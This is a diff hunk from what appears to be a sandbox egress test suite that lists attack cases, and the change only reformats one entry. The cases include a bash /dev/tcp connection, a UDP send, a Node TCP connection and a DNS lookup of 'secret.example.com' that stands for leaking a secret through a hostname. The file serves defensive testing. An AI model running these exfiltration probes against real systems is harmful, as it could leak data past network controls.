@@ -143,7 +143,13 @@ told = tried(lambda: subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/P
 told = tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))""",
         exit_code=0,
     ),
-    Attack("dns", "looks up a name that has a secret in it", _NETWORK, 'socket.getaddrinfo("secret.example.com", 443)\n', "looks up the address of secret.example.com"),
+    Attack(
+        "dns",
+        "looks up a name that has a secret in it",
+        _NETWORK,
+        'socket.getaddrinfo("secret.example.com", 443)\n',
+        "looks up the address of secret.example.com",
+    ),
     Attack(
         "node-tcp",
         "connects from Node",
